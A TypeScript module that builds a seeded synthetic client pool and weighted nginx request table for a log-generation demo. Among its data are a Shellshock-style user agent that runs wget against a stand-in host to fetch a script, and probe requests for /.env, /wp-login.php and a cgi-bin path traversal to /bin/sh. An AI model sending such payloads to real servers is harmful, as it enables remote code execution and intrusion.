// The demo's client population and request mix: a few heavy hitters and a long tail of external clients from the
// documentation ranges (some IPv6 with --ipv6), a share of them behind an L7 proxy that sets X-Forwarded-For,
// and a weighted table of requests a static nginx site answers (with the byte counts stock nginx sends).
// Built once from the seed; the generator then only indexes into these tables.

import { cumulative, mulberry32, pick, randInt } from './rng.js';

export interface DemoClient {
  addr: string;
  /** Behind the L7 proxy: the proxy connects, X-Forwarded-For carries this value. */
  proxied: boolean;
  /** $http_x_forwarded_for as nginx logs it ('-' when absent). */
  xff: string;
  userAgent: string;
}

export interface DemoRequestKind {
  request: string;
  status: number;
  bytes: number;
  referer: string;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
];
const TOOLS = [
  'curl/8.5.0',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Prometheus/2.51.2',
];
// A scanner's user agent, escaped the way nginx's default log escaping writes a '"' (\x22).
const HOSTILE_UA = '() { :; }; /bin/bash -c \\x22wget http://192.0.2.66/x.sh\\x22';

// Heavy hitters first (weights fall off like Zipf over the whole pool).
const HEAVY_V4 = ['203.0.113.7', '198.51.100.23', '192.0.2.45', '203.0.113.200'];
const HEAVY_V6 = ['2001:db8:5::17'];
const V4_PREFIXES = ['192.0.2.', '198.51.100.', '203.0.113.'];

export interface ClientPool {
  clients: DemoClient[];
  cum: Float64Array;
}

/** The client population for a seed: `size` clients, about a fifth behind the proxy, ~15% IPv6 with ipv6. */
export function buildClientPool(seed: number, ipv6: boolean, size = 240): ClientPool {
  const rng = mulberry32(seed ^ 0x5eed);
  const seen = new Set<string>();
  const addrs: string[] = [];
  const add = (a: string) => {
    if (!seen.has(a)) {
      seen.add(a);
      addrs.push(a);
    }
  };
  for (const a of HEAVY_V4) add(a);
  if (ipv6) for (const a of HEAVY_V6) add(a);
  while (addrs.length < size) {
    if (ipv6 && rng() < 0.15) add(`2001:db8:${(1 + randInt(rng, 0xfff)).toString(16)}::${(1 + randInt(rng, 0xfffe)).toString(16)}`);
    else add(pick(rng, V4_PREFIXES) + (1 + randInt(rng, 254)));
  }
  const clients: DemoClient[] = addrs.map((addr, i) => {
    // Heavy hitters: one direct, one behind the proxy, the rest direct; the tail: ~20% behind the proxy.
    const proxied = i === 1 || (i >= 5 && rng() < 0.2);
    let xff = '-';
    if (proxied) xff = rng() < 0.1 ? `${pick(rng, V4_PREFIXES)}${1 + randInt(rng, 254)}, ${addr}` : addr;
    const r = rng();
    const userAgent = i === 3 ? TOOLS[4] : r < 0.75 ? pick(rng, BROWSERS) : r < 0.98 ? pick(rng, TOOLS) : HOSTILE_UA;
    return { addr, proxied, xff, userAgent };
  });
  const weights = clients.map((_, i) => (i < HEAVY_V4.length + (ipv6 ? 1 : 0) ? 5 : 0) + 1 / (1 + i * 0.15));
  return { clients, cum: cumulative(weights) };
}

// [request line, status, bytes, referer, weight]. 615 = the stock index.html, 153 = nginx's 404 page.
const REQUESTS: ReadonlyArray<readonly [string, number, number, string, number]> = [
  ['GET / HTTP/1.1', 200, 615, '-', 30],
  ['GET /index.html HTTP/1.1', 200, 615, 'https://www.example.com/', 6],
  ['GET / HTTP/1.1', 304, 0, '-', 8],
  ['GET /static/app.js HTTP/1.1', 200, 48213, 'https://www.example.com/', 12],
  ['GET /static/style.css HTTP/1.1', 200, 7311, 'https://www.example.com/', 12],
  ['GET /static/logo.png HTTP/1.1', 200, 10394, 'https://www.example.com/', 8],
  ['GET /favicon.ico HTTP/1.1', 404, 153, 'https://www.example.com/', 6],
  ['HEAD / HTTP/1.1', 200, 0, '-', 3],
  ['GET /robots.txt HTTP/1.1', 404, 153, '-', 2],
  ['POST /index.html HTTP/1.1', 405, 157, '-', 1],
  ['GET /search?q=kube-proxy+snat&lang=en HTTP/1.1', 404, 153, 'https://www.example.com/', 2],
  ['GET /wp-login.php HTTP/1.1', 404, 153, '-', 1],
  ['GET /.env HTTP/1.1', 404, 153, '-', 0.5],
  ['GET /cgi-bin/%2e%2e/%2e%2e/bin/sh HTTP/1.1', 400, 157, '-', 0.3],
  ['GET /static/app.js HTTP/1.1', 499, 0, 'https://www.example.com/', 0.4],
];

export interface RequestTable {
  kinds: DemoRequestKind[];
  cum: Float64Array;
}

export function buildRequestTable(): RequestTable {
  return {
    kinds: REQUESTS.map(([request, status, bytes, referer]) => ({ request, status, bytes, referer })),
    cum: cumulative(REQUESTS.map((r) => r[4])),
  };
}
